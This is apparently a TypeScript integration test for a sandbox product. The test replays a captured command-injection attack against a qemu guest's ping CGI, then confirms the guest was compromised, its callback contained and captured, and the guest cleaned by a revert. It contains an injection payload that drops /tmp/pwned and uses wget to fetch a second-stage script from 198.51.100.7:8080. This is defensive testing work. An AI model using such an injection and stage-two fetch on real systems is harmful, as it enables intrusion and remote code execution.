/**
 * A real infection end to end in a qemu dummy. A capture built with the product's own builders
 * holds one HTTP session: an attacker exploiting the guest's injectable ping CGI to drop a file and
 * fetch a second stage from 198.51.100.7:8080. `runAnalyzeJob` replays it into a real virtual
 * machine (the tiny guest of scripts/build-qemu-guest.sh): the guest really runs the command, its
 * callback is captured on the dummy's tap (the pcap shows the guest's SYN to 198.51.100.7:8080) and
 * answered by the containment's HTTP sink, the verdict is `compromised`. Then the dummy is reverted
 * and shown clean: no observation, no dropped file, the service answering.
 *
 * Containment proof: tcpdump on every host interface (`-i any` in the host's namespace) runs for
 * the whole test and must see no packet of the dummy (its link's addresses, the callback address).
 * Skipped with the reason when qemu, the kernel or the namespace tools are missing.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildPcap, readCaptureFile, synthesizeTcpExchange } from '../../src/capture/index.ts';
import { Counters, type Frame } from '../../src/core/index.ts';
import { runAnalyzeJob, type Lease } from '../../src/daemon/index.ts';
import { ContainmentNamespace, QemuDriver, type QemuVictim } from '../../src/drivers/index.ts';
import { ProfileCatalogue } from '../../src/sandbox/index.ts';
import { sessionsOfFrames } from '../helpers/frames-to-sessions.ts';
import { CALLBACK_TARGET, GOLDEN_DIRECTORY, injection, qemuMachine, qemuProfile, qemuSkipReason, SERVICE_PORT } from './qemu-fixture.ts';

const skip = qemuSkipReason();
const LINKTYPE_ETHERNET = 1;
const EXPLOIT = injection(`touch /tmp/pwned; wget -q -O /tmp/stage2 http://${CALLBACK_TARGET.address}:${CALLBACK_TARGET.port}/stage2.sh`);

/** tcpdump on all host interfaces, counting packets that match `filter`. */
class HostCapture {
  private output = '';
  private stopping: Promise<string[]> | null = null;
  private constructor(private readonly child: ChildProcess) {
    child.stdout!.setEncoding('utf8').on('data', (chunk: string) => (this.output += chunk));
  }

  static async start(filter: string): Promise<HostCapture> {
    const child = spawn('tcpdump', ['-i', 'any', '-n', '-l', '--immediate-mode', filter], { stdio: ['ignore', 'pipe', 'pipe'] });
    const capture = new HostCapture(child);
    await new Promise<void>((resolve, reject) => {
      let stderr = '';
      child.stderr!.setEncoding('utf8').on('data', (chunk: string) => {
        stderr += chunk;
        if (stderr.includes('listening on')) resolve();
      });
      child.once('exit', (code) => reject(new Error(`tcpdump exited with ${code}: ${stderr}`)));
    });
    return capture;
  }

  /** Stops and returns the packets seen (one line each). */
  stop(): Promise<string[]> {
    this.stopping ??= (async () => {
      const exited = this.child.exitCode === null && this.child.signalCode === null ? new Promise((resolve) => this.child.once('close', resolve)) : Promise.resolve();
      this.child.kill('SIGINT');
      await exited;
      return this.output.split('\n').filter((line) => line.trim().length > 0);
    })();
    return this.stopping;
  }
}

if (skip !== null) {
  console.log(`# ${skip}`);
  describe('qemu dummy: a real infection end to end', () => {
    it(skip, { skip });
  });
} else {
  describe('qemu dummy: a real infection end to end', () => {
    const profile = qemuProfile();
    const directory = mkdtempSync(join(tmpdir(), 'crashtest-qemu-infection-'));
    let space: ContainmentNamespace;
    let driver: QemuDriver;
    let victim: QemuVictim;
    let hostCapture: HostCapture;

    before(async () => {
      space = await ContainmentNamespace.create();
      driver = new QemuDriver({ machines: { [profile.id]: qemuMachine() }, containmentNamespace: space, goldenDirectory: GOLDEN_DIRECTORY, warmClones: 0, maxDwellMs: 2_000 });
      victim = await driver.create(profile);
      // `-i any` captures cooked (SLL2) frames, so the dummy is matched by address: its link's, the callback's
      hostCapture = await HostCapture.start(`host ${CALLBACK_TARGET.address} or host ${victim.address} or net 10.213.0.0/16`);
    });

    after(async () => {
      await hostCapture?.stop().catch(() => []);
      await driver?.close();
      await space?.close();
      rmSync(directory, { recursive: true, force: true });
    });

    it('a replayed session compromises the guest, its callback is captured on the tap, a revert leaves it clean, and the host saw nothing', { timeout: 300_000 }, async () => {
      const frames = synthesizeTcpExchange({
        client: { ip: '203.0.113.66', port: 51_515 },
        server: { ip: '10.1.1.20', port: SERVICE_PORT },
        turns: [{ direction: 'to_server', data: Buffer.from(EXPLOIT, 'latin1'), time: { seconds: 1_700_000_000, nanoseconds: 0 } }],
      });
      const capturePath = join(directory, 'attack.pcap');
      writeFileSync(capturePath, buildPcap(LINKTYPE_ETHERNET, frames));

      // the lease hands out the one qemu dummy and leaves it as the attack left it, to be inspected
      const lease: Lease = async (leased, use) => {
        assert.equal(leased.id, profile.id);
        return use(victim);
      };
      const result = await runAnalyzeJob([capturePath], { catalogue: new ProfileCatalogue([profile]), lease, dwellMs: 2_000, counters: new Counters() });
      const verdict = result.verdicts.find((record) => record.profile === profile.id);
      assert.ok(verdict, `no verdict for ${profile.id}: ${JSON.stringify(result.verdicts.map((record) => [record.profile, record.level]))}`);
      assert.equal(verdict.level, 'compromised', JSON.stringify(verdict.evidence));
      assert.equal(verdict.causalSession.client.ip, '203.0.113.66');

      // the guest said what its CGI ran, and the containment's HTTP sink got the real fetch
      const seen = victim.observations();
      const executed = seen.find((observation) => observation.source === 'dummy' && observation.observation.kind === 'exec');
      assert.ok(executed && executed.source === 'dummy' && executed.observation.kind === 'exec' && executed.observation.command.includes('wget'), JSON.stringify(seen));
      const fetch = seen.find((observation) => observation.source === 'containment' && observation.event.facts.kind === 'http_request');
      assert.ok(fetch && fetch.source === 'containment', `no http_request egress event: ${JSON.stringify(seen)}`);
      assert.deepEqual(fetch.event.destination, CALLBACK_TARGET);
      assert.equal(fetch.event.source?.address, victim.address);
      assert.ok(fetch.event.facts.kind === 'http_request' && fetch.event.facts.url.includes('/stage2.sh'));

      // the tap's pcap shows the guest's own SYN to the callback address, before any redirect
      const tapFrames: Frame[] = [];
      await readCaptureFile(victim.pcapPath, (frame) => tapFrames.push({ ...frame, data: Buffer.from(frame.data) }));
      const callback = sessionsOfFrames(tapFrames).find((session) => session.server.ip === CALLBACK_TARGET.address && session.server.port === CALLBACK_TARGET.port);
      assert.ok(callback, `the tap's pcap has no session to ${CALLBACK_TARGET.address}:${CALLBACK_TARGET.port}`);
      assert.equal(callback.client.ip, victim.address);
      assert.ok(Buffer.concat(callback.turns.filter((turn) => turn.direction === 'to_server').map((turn) => Buffer.from(turn.data))).toString('latin1').includes('GET /stage2.sh'));

      // reverted: nothing observed, the dropped file gone, the service answering
      await victim.revert();
      assert.deepEqual(victim.observations(), []);
      const connection = await victim.connect(SERVICE_PORT, { address: '192.0.2.10', port: 40_000 });
      assert.ok(connection, 'the service answers after revert');
      const answer = Buffer.from(await connection.send(Buffer.from(injection('test -e /tmp/pwned && echo STILL-PWNED; test -e /tmp/stage2 || echo CLEAN')))).toString('latin1');
      await connection.close();
      assert.ok(answer.includes('CLEAN') && !answer.includes('STILL-PWNED'), answer);

      // containment proof: not one packet of the dummy on the host's own interfaces
      const leaked = await hostCapture.stop();
      assert.deepEqual(leaked, [], `the host's interfaces saw packets of the dummy:\n${leaked.join('\n')}`);
    });
  });
}
